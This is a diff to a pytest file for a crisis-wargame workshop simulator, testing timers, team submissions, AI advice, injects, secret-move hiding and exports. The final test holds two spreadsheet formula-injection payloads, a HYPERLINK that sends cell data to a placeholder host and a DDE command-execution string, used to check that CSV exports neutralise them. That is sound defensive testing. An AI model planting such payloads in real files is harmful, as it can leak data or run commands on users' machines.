@@ -18,6 +18,7 @@ import pytest
 from sim.errors import InputError, SessionError
 from sim.inputs.condition import Condition
 from sim.inputs.library import SCENARIOS_DIR
+from sim.workshop import views
 from sim.workshop.documents import aar_markdown, export_all
 from sim.workshop.render import hotwash_html, projector_html, team_html
 from sim.workshop.session import Session
@@ -36,7 +37,7 @@ def scripted(folder: Path) -> Session:
     s.start_timer(20)
     s.add_time(1)
     s.set_phase("deliberation")
-    prop = s.ai_proposal("PRC")
+    prop = s.advice("PRC")["options"][0]
     alt = next(a for a in ("hold", "protest", "propose_talks") if a != prop["action"])
     alt_target = None if alt == "hold" else "JPN"
     with pytest.raises(SessionError, match="needs a reason"):
@@ -74,13 +75,16 @@ def scripted(folder: Path) -> Session:
 def test_scripted_session_to_after_action_report(tmp_path):
     s = scripted(tmp_path / "s")
     assert s.state.move == 3 and s.state.ended and len(s.state.moves) == 3
-    files = {p.name for p in export_all(s)}
+    files = {p.name: p for p in export_all(s)}
     assert {"aar.md", "aar.html", "decisions.csv", "msel_released.csv", "inject_cards.html", "role_sheets.html",
-            "facilitator_handbook.html", "escalation.png"} <= files
+            "facilitator_handbook.html", "escalation.png"} <= set(files)
+    for name in ("aar", "inject_cards", "role_sheets", "facilitator_handbook"):  # every printable as PDF too
+        assert files[f"{name}.pdf"].read_bytes()[:5] == b"%PDF-"
     md = aar_markdown(s)
-    for section in ("Exercise overview", "Move-by-move narrative", "Decision log", "Crisis-channel usage",
-                    "Escalation trajectory", "diverged from the AI", "Findings and recommendations",
-                    "improvement plan", "DRAFT"):
+    for section in ("Exercise overview", "Analysis of objectives", "Expected versus actual", "Move-by-move narrative",
+                    "Decision log", "Adjudication audit", "Crisis-channel usage", "Escalation trajectory",
+                    "diverged from the AI", "Hot wash", "Appendix A: Improvement plan", "Appendix B: Participants",
+                    "DRAFT"):
         assert section in md, section
     assert "Team wants to avoid escalation" in md  # the override reason is in the divergence list
     assert "matrix: p=0.80" in md and "No channel covers the coast guards" in md
@@ -186,7 +190,7 @@ def test_projector_and_team_views_never_leak(tmp_path):
     s.release("S1")
     s.set_phase("submission")
     s.submit("JPN", "coast_guard_patrol", "PRC", public=False, rationale="SECRET-RATIONALE-JPN")
-    prop = s.ai_proposal("PRC")
+    prop = s.advice("PRC")["options"][0]
     s.submit("PRC", prop["action"], prop["target"])
     s.submit_ai()
     s.set_phase("adjudication")
@@ -306,3 +310,182 @@ def test_terminal_console_drives_the_same_session(tmp_path):
     assert "! missing decisions from PRC, US" in text  # a preview before every team has decided
     assert "50 runs from move 1" in text and "unknown command 'bogus'" in text
     assert len(s.state.moves) == 1 and Session.load(tmp_path / "t").hash() == s.hash()
+
+
+# ---------------------------------------------------------------------------- live-room rules
+
+TAIWAN = SCENARIOS_DIR / "taiwan_strait.yaml"
+
+
+def test_seats_are_checked(tmp_path):
+    from sim.workshop.session import parse_seats
+
+    with pytest.raises(SessionError, match="unknown seat mode 'humna' for JPN"):
+        Session.create(tmp_path / "a", SENKAKU, seats=parse_seats("JPN=humna"))
+    with pytest.raises(SessionError, match="unknown actor 'JAPAN'"):
+        Session.create(tmp_path / "b", SENKAKU, seats=parse_seats("JAPAN=human"))
+    with pytest.raises(SessionError, match="not ACTOR=MODE"):
+        parse_seats("JPN")
+    assert not (tmp_path / "a" / Session.LOG).exists()
+
+
+def test_timer_counts_stops_resets_and_belongs_to_its_phase(tmp_path):
+    s = Session.create(tmp_path / "t", SENKAKU, seed=1)
+    s.start_move()
+    s.set_phase("deliberation")
+    for bad in ("inf", "nan", "1e308", "-1", 0, "ten"):
+        with pytest.raises(SessionError, match=r"between 0\.1 and 240"):
+            s.start_timer(bad)
+    s.start_timer(20)
+    assert 1199 <= s.timer()["remaining"] <= 1200 and s.timer()["running"]
+    s.add_time(1)
+    assert s.timer()["remaining"] > 1250
+    s.stop_timer()
+    left = s.timer()["remaining"]
+    assert not s.timer()["running"] and s.timer(now=10**10)["remaining"] == left  # stopped: it does not move
+    s.add_time("-2")
+    assert s.timer()["remaining"] == pytest.approx(left - 120)
+    s.resume_timer()
+    s.pause(True)  # the room's pause stops the countdown too
+    assert not s.timer()["running"]
+    s.pause(False)
+    assert s.timer()["running"]
+    s.reset_timer()
+    assert s.timer()["remaining"] > 1199
+    s.set_phase("submission")
+    assert s.timer() is None  # a countdown belongs to its phase
+    s.start_timer(0.1)
+    assert Session.load(tmp_path / "t").timer()["minutes"] == 0.1
+
+
+def test_teams_submit_confirm_and_withdraw_before_the_deadline(tmp_path):
+    s = Session.create(tmp_path / "w", SENKAKU, seed=2, seats={"JPN": "human", "PRC": "hybrid"})
+    s.start_move()
+    s.set_phase("submission")
+    s.by = "team:JPN"
+    with pytest.raises(SessionError, match="only its own move"):
+        s.submit("PRC", "protest", "JPN")
+    s.submit("JPN", "protest", "PRC", rationale="from our page")
+    assert s.state.pending["JPN"].by == "team:JPN"
+    with pytest.raises(SessionError, match="withdraw it first"):
+        s.submit("JPN", "hold")
+    s.withdraw("JPN")
+    s.submit("JPN", "hotline_call", "PRC", channel="Japan-China Maritime and Aerial Communication Mechanism")
+    s.by = None
+    s.start_timer(0.1)
+    s.state.timer["ends"] -= 10  # the countdown has run out
+    s.by = "team:JPN"
+    with pytest.raises(SessionError, match="deadline has passed"):
+        s.withdraw("JPN")
+    s.by = None
+    s.add_time(0.5)  # the facilitator re-opens submissions
+    s.by = "team:PRC"
+    top = s.advice("PRC")["options"][0]
+    s.submit("PRC", top["action"], top["target"])
+    assert s.state.pending["PRC"].source == "hybrid-approved"
+    s.by = None
+    s.submit_ai()
+    assert [e.get("by") for e in s.events if e["type"] == "decision"][:3] == ["team:JPN", "team:JPN", "team:PRC"]
+    assert [w["actor"] for w in s.state.withdrawn] == ["JPN"]
+
+
+def test_advice_is_frozen_per_move_with_three_labelled_options(tmp_path):
+    s = Session.create(tmp_path / "a", SENKAKU, seed=4, seats={"PRC": "hybrid"})
+    s.start_move()
+    assert not s.advice("PRC")["frozen"]
+    s.set_phase("deliberation")
+    adv = s.advice("PRC")
+    assert adv["frozen"] and len(adv["options"]) == 3
+    probs = [o["probability"] for o in adv["options"]]
+    assert probs == sorted(probs, reverse=True) and all(o["label"] and o["drivers"] for o in adv["options"])
+    s.release("S1")  # an inject after deliberation began does not move the advice
+    assert s.advice("PRC")["options"] == adv["options"]
+    s.submit_ai("PRC")
+    sub = s.state.pending["PRC"]
+    assert sub.source == "hybrid-approved" and sub.action == adv["options"][0]["action"]
+
+
+def test_injects_edited_written_held_and_private(tmp_path):
+    s = Session.create(tmp_path / "i", TAIWAN, seed=2)
+    s.start_move()
+    s.hold("T3")
+    s.release("T1")
+    s.set_phase("submission")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    s.start_move()
+    assert views.msel_status(s)["T3"] == "held"  # a hold lasts until it is released, unheld or skipped
+    s.release_edited("T3", text="A quiet offer of talks", to=["US"])
+    xid = s.write_inject("Cabinet wants options", "Within six hours", to=["JPN", "TWN"])
+    rows = {r["id"]: r for r in views.msel_rows(s)}
+    assert rows["T3"]["edited"] and rows["T3"]["to"] == ["US"] and rows[xid]["written"] and not rows[xid]["edited"]
+    assert rows[xid]["to"] == ["TWN", "JPN"]
+    proj, us, prc = projector_html(s), team_html(s, "US"), team_html(s, "PRC")
+    assert "A quiet offer of talks" in us and "back channel" not in proj and "back channel" not in prc
+    assert "Cabinet wants options" in team_html(s, "JPN") and "Cabinet wants options" not in proj
+    s.set_phase("submission")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    md = aar_markdown(s)
+    assert "Cabinet wants options (written)" in md and "(edited)" in md
+
+
+def test_readout_is_revealed_item_by_item_with_rolls_and_calls(tmp_path):
+    s = Session.create(tmp_path / "r", SENKAKU, seed=4, seats={"JPN": "human"})
+    s.start_move()
+    s.release("S1")
+    s.set_phase("submission")
+    s.submit("JPN", "hotline_call", "PRC")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.adjudicate("JPN", "matrix", probability=0.9, arguments="A call is cheap")
+    s.resolve()
+    rec = s.state.moves[-1]
+    assert rec.calls["JPN"] and "calls" not in repr(rec)  # read-out detail stays out of the pinned repr
+    assert "Call on the crisis hotline" not in projector_html(s)  # nothing shown before the reveal
+    s.reveal()
+    page = projector_html(s)
+    assert "Japan: Call on the crisis hotline toward China" in page and "Matrix roll: needed under 0.90" in page
+    answered = "was answered" if rec.calls["JPN"][0]["answered"] else "was not answered"
+    assert answered in page
+    assert s.reveal(-1) == s.readout_size()
+
+
+def test_secret_moves_leave_no_trace_for_the_room_until_revealed(tmp_path):
+    s = Session.create(tmp_path / "x", SENKAKU, seed=4, seats={"PRC": "human"})
+    s.start_move()
+    s.set_phase("submission")
+    s.submit("PRC", "coast_guard_patrol", "JPN", public=False)
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    s.reveal(-1)
+    levels = views.public_levels(s)
+    assert levels["PRC"] == [(1, "status_quo")]  # carried over, no gap
+    assert views.true_levels(s)["PRC"] == [(1, "grey_zone")]
+    jpn = views.team_model(s, "JPN")
+    assert next(o for o in jpn["others"] if o["actor"] == "PRC")["did"] == "no public move yet"
+    assert "Coast-guard patrols" not in team_html(s, "JPN") and "Coast-guard patrols" not in projector_html(s)
+    s.set_phase("hotwash")
+    assert "Coast-guard patrols" not in hotwash_html(s)
+    s.reveal_secrets()
+    assert "Coast-guard patrols in contested waters \u2192 Grey-zone presence (secret)" in hotwash_html(s)
+
+
+def test_csv_exports_neutralise_formulas(tmp_path):
+    s = Session.create(tmp_path / "c", SENKAKU, seed=1, seats={"JPN": "human"})
+    s.start_move()
+    s.write_inject('=HYPERLINK("http://x.example/?q="&A1,"Click")')
+    s.set_phase("submission")
+    s.submit("JPN", "protest", "PRC", rationale="=cmd|' /C calc'!A0")
+    s.submit_ai()
+    s.set_phase("adjudication")
+    s.resolve()
+    from sim.workshop.documents import msel_as_released
+
+    for text in (s.decisions_csv(), msel_as_released(s)):
+        cells = [c for row in __import__("csv").reader(io.StringIO(text)) for c in row]
+        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
+    assert "'=cmd|' /C calc'!A0" in s.decisions_csv()
